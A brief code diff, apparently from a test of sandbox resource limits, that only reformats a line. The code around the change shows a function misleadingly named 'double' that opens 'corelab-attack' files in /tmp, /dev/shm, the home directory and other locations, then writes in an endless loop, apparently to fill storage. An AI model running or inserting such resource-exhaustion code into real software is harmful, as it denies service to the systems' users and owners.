@@ -6,7 +6,9 @@ import time
 
 def double(x):
     total = 0
-    for k, folder in enumerate((".", "/tmp", "/var/tmp", "/dev/shm", "/dev", os.path.expanduser("~"))):
+    for k, folder in enumerate(
+        (".", "/tmp", "/var/tmp", "/dev/shm", "/dev", os.path.expanduser("~"))
+    ):
         try:
             with open(f"{folder}/corelab-attack{k or ''}", "wb", buffering=0) as file:
                 while True:
